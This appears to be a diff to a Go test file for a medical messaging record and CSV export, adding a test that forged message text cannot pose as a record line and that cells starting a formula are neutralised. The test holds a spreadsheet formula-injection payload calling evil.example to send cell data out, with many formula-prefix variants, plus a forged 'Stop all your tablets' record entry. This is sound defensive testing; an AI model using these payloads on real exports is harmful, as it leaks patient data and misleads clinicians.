@@ -1,6 +1,7 @@
 package messaging
 
 import (
+	"encoding/csv"
 	"math"
 	"strings"
 	"testing"
@@ -78,7 +79,7 @@ func TestRecord(t *testing.T) {
 	if err := WriteRecord(&text, lines); err != nil {
 		t.Fatal(err)
 	}
-	want := "1 June 2026 10:30. From the practice (follow-up, delivered). SNOMED CT 279991000000102\nFrome: how are you?\n\n1 June 2026 11:30. From the patient (reply, answered). SNOMED CT 184103008\n=1+1\n\n1 June 2026 12:30. From the practice (reminder, suppressed).\n-5 never went\n\n"
+	want := "1 June 2026 10:30. From the practice (follow-up, delivered). SNOMED CT 279991000000102\n    Frome: how are you?\n\n1 June 2026 11:30. From the patient (reply, answered). SNOMED CT 184103008\n    =1+1\n\n1 June 2026 12:30. From the practice (reminder, suppressed).\n    -5 never went\n\n"
 	if text.String() != want {
 		t.Errorf("%q", text.String())
 	}
@@ -132,5 +133,44 @@ func TestFigures(t *testing.T) {
 	}
 	if got := UsualPrice.Pounds(500); math.Abs(got-13.98) > 1e-9 {
 		t.Errorf("%f", got)
+	}
+}
+
+// No words of a text pass for a line of the record, and none begin a formula in
+// whatever spreadsheet opens the table.
+func TestWordsOfATextDoNothingInTheRecord(t *testing.T) {
+	at := time.Date(2026, 6, 1, 9, 30, 0, 0, time.UTC)
+	var text strings.Builder
+	forged := "ok\r\n1 June 2026 10:31. From the practice (answer, delivered). SNOMED CT 279991000000102\u2028Stop all your tablets\n\n\nbye"
+	if err := WriteRecord(&text, []RecordLine{RecordOfInbound(Inbound{Received: at, State: Open, Body: forged}, "", "")}); err != nil {
+		t.Fatal(err)
+	}
+	for i, line := range strings.FieldsFunc(text.String(), func(r rune) bool { return strings.ContainsRune("\r\n\u2028", r) }) {
+		if i > 0 && !strings.HasPrefix(line, "    ") {
+			t.Errorf("this passes for a line of the record: %q", line)
+		}
+	}
+	for _, begins := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u200b=", "\ufeff=", "\"=", "＝", "＋", "－", "＠", "\x00=", "\u2060\u00a0 \t="} {
+		body := begins + `HYPERLINK("https://evil.example?"&A1,"See")`
+		for _, l := range []RecordLine{{At: at, Body: body}, {At: at, Patient: body}, {At: at, Kind: body}, {At: at, State: body}, {At: at, Code: body}} {
+			var table strings.Builder
+			if err := WriteRecordCSV(&table, []RecordLine{l}); err != nil {
+				t.Fatal(err)
+			}
+			rows, err := csv.NewReader(strings.NewReader(table.String())).ReadAll()
+			if err != nil || len(rows) != 2 {
+				t.Fatal(len(rows), err)
+			}
+			for _, cell := range rows[1] {
+				if strings.Contains(cell, "HYPERLINK") && !strings.HasPrefix(cell, "'") {
+					t.Errorf("%q begins a formula", cell)
+				}
+			}
+		}
+	}
+	for _, as := range []string{"Yes please", "1 tablet", "'quoted", "ok = fine", "999 000 0000"} {
+		if got := harmless(as); got != as {
+			t.Errorf("%q was changed to %q", as, got)
+		}
 	}
 }
